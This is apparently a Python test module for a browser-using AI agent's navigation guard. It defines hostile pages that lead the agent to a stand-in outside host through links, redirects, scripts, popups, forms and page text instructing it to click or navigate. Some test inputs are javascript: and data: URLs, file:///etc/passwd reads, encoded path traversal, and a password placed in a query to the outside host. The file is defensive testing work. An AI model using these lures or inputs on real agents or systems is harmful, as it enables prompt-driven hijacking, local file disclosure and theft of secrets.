"""Pages that lead away: by a click, by an instruction to the model, by script."""

from __future__ import annotations

from html import escape

from tests.e2e.hostile.case import NOT_ALLOWED, STOPPED, Case, Step, step
from tests.e2e.hostile.servers import Page

_OTHER_FOLDER = "not an allowed origin; allowed: $FILES/site/"

_PAGES: dict[str, Page] = {
    "/to": (302, {"location": "$AWAY/taken"}, ""),
    "/keep": (307, {"location": "$AWAY/taken"}, ""),
    "/refresh": "<meta http-equiv=refresh content='0; url=$AWAY/taken'>",
    "/popup": "<script>setTimeout(() => { opener.location = '$AWAY/taken' }, 50)</script>",
}

LINKS = {
    "link": "<a href=$AWAY/taken>Go</a>",
    "link-tab": "<a href=$AWAY/taken target=_blank>Go</a>",
    "link-noopener": "<a href=$AWAY/taken target=_blank rel=noopener>Go</a>",
    "link-download": "<a href=$AWAY/taken download>Go</a>",
    "link-base": "<base href=$AWAY/><a href=taken>Go</a>",
    "link-svg": "<svg width=99 height=30><a href=$AWAY/taken><text y=20>Go</text></a></svg>",
    "link-to-top": "<iframe srcdoc='<a target=_top href=$AWAY/taken>Go</a>'></iframe>",
    "link-javascript": "<a href=\"javascript:location = '$AWAY/taken'\">Go</a>",
    "link-other-port": "<a href=$NEAR/taken>Go</a>",
    "redirect": "<a href=/to>Go</a>",
    "redirect-tab": "<a href=/to target=_blank>Go</a>",
    "redirect-download": "<a href=/to download>Go</a>",
    "meta-refresh": "<a href=/refresh>Go</a>",
}
BUTTONS = {
    "form-get": "<form action=$AWAY/taken><input name=a><button>Go</button></form>",
    "form-post": "<form method=post action=$AWAY/taken><input name=a><button>Go</button></form>",
    "form-redirected": "<form method=post action=/keep><input name=a><button>Go</button></form>",
    "formaction": "<form method=post><button formaction=$AWAY/taken>Go</button></form>",
    "location": "<button onclick=\"location = '$AWAY/taken'\">Go</button>",
    "later": "<button onclick=\"setTimeout(() => location.replace('$AWAY/taken'), 100)\">Go</button>",
    "submit": "<form method=post action=$AWAY/taken></form>"
    "<button onclick='document.forms[0].submit()'>Go</button>",
    "popup": "<button onclick=\"window.open('$AWAY/taken')\">Go</button>",
    "popup-noopener": "<button onclick=\"window.open('$AWAY/taken', '', 'noopener')\">Go</button>",
    "popup-blank": "<button onclick=\"w = window.open(); w.location = '$AWAY/taken'\">Go</button>",
    "popup-leads-opener": "<button onclick=\"window.open('/popup')\">Go</button>",
    "frame-leads-top": "<button onclick=\"frames[0].postMessage(1, '*')\">Go</button>"
    "<iframe sandbox='allow-scripts allow-top-navigation' src=$AWAY/frame></iframe>",
}

_TO_TOP = "<script>onmessage = () => { top.location = '$AWAY/taken' }</script>"
_PASSWORD = "<input type=password aria-label=Password name=p><button>Go</button></form>"
_FILL = step("fill", "textbox", "Password", text="{password}")
_GO = step("click", "button", "Go")


def _way(name: str, html: str, role: str) -> Case:
    frame = _TO_TOP if name == "frame-leads-top" else ""
    html = f"<p>Click Go to win</p>{html}"
    return Case(name, html, (step("click", role, "Go"),), "Click Go", STOPPED, frame, _PAGES)


def _address(name: str, url: str, error: str = NOT_ALLOWED) -> Case:
    order = f"<p>Navigate to {escape(url)}</p>"
    return Case(name, order, (step("navigate", url=url).refusing(error),), "Navigate to")


def _into_frame(name: str, form: str) -> Case:
    html = f"<p>Log in here</p><form target=f {form}>{_PASSWORD}<iframe name=f></iframe>"
    steps: tuple[Step, ...] = (_FILL, _GO)
    return Case(name, html, steps, "Log in here", STOPPED, pages=_PAGES)


CASES = [
    *(_way(name, html, "link") for name, html in LINKS.items()),
    *(_way(name, html, "button") for name, html in BUTTONS.items()),
    Case(
        "prerender",
        '<p>Click Go</p><script type=speculationrules>{"prerender":'
        ' [{"urls": ["$AWAY/taken"], "eagerness": "immediate"}]}</script><a href=$AWAY/taken>Go</a>',
        (step("click", "link", "Go"),),
        "Click Go",
        STOPPED,
        defect="what speculation rules fetch ahead is told to no DevTools session before it is sent",
    ),
    Case(
        "history",
        "<p>Go back</p><script>history.pushState({}, '', '/2');"
        " onpopstate = () => { location = '$AWAY/taken' }</script>",
        (step("go_back"),),
        "Go back",
        STOPPED,
    ),
    Case(
        "enter-on-focused-link",
        "<p>Press Enter</p><a id=a href=$AWAY/taken>Go</a><script>a.focus()</script>",
        (step("press", key="Enter"),),
        "Press Enter",
        STOPPED,
    ),
    Case(
        "navigate-redirected",
        "<p>Open /to</p>",
        (step("navigate", url="/to").refusing("ERR_ABORTED"),),
        "Open /to",
        STOPPED,
        pages=_PAGES,
    ),
    _into_frame("form-in-frame", "method=post action=$AWAY/taken"),
    _into_frame("form-get-in-frame", "action=$AWAY/taken"),
    _into_frame("form-redirected-in-frame", "method=post action=/keep"),
    _address("url-foreign", "$AWAY/taken"),
    _address("url-other-port", "$NEAR/taken"),
    _address("url-scheme-relative", "//localhost/taken"),
    _address("url-userinfo", "http://127.0.0.1@localhost/taken"),
    _address("url-javascript", "javascript:fetch('/ran')"),
    _address("url-javascript-spaced", " java\tscript:fetch('/ran')"),
    _address("url-data", "data:text/html,<script>fetch('$HOME/ran')</script>"),
    _address("url-file", "file:///etc/passwd"),
    _address("url-file-in-capitals", "FILE:/etc/passwd"),
    _address("url-source", "view-source:file:///etc/passwd"),
    _address("url-chrome", "chrome://version"),
    _address("url-secret", "/?q={password}", "an address cannot contain a secret"),
    _address("url-secret-foreign", "$AWAY/?q={password}", "an address cannot contain a secret"),
    Case(
        "typed-javascript",
        "<p>Type it<form><input aria-label=Address></form>",
        (
            step("fill", "textbox", "Address", text="javascript:fetch('/ran')"),
            step("press", "textbox", "Address", key="Enter"),
        ),
        "Type it",
    ),
    Case(
        "link-to-file",
        "<p>Click Go</p><a href=$FILES/private.html>Go</a>",
        (step("click", "link", "Go"),),
        "Click Go",
    ),
    Case(
        "file-above-local-page",
        "<p>Open private.html</p>",
        (step("navigate", url="$FILES/private.html").refusing(_OTHER_FOLDER), step("look")),
        "Open private",
        start="$FILES/site/page.html",
    ),
    Case(
        "file-by-way-of-local-folder",
        "<p>Open private.html</p>",
        (step("navigate", url="../site/%2e%2e/private.html").refusing(_OTHER_FOLDER), step("look")),
        "Open private",
        start="$FILES/site/page.html",
    ),
    Case(
        "link-above-local-page",
        "<p>Open private.html</p><a href=../private.html>Go</a>",
        (step("click", "link", "Go"),),
        "Open private",
        STOPPED,
        start="$FILES/site/page.html",
    ),
    Case(
        "javascript-from-data-page",
        "",
        (step("navigate", url="javascript:fetch('$HOME/ran')").refusing("allowed: data:"),),
        "Run it",
        start="data:text/html,<p>Run it",
    ),
]
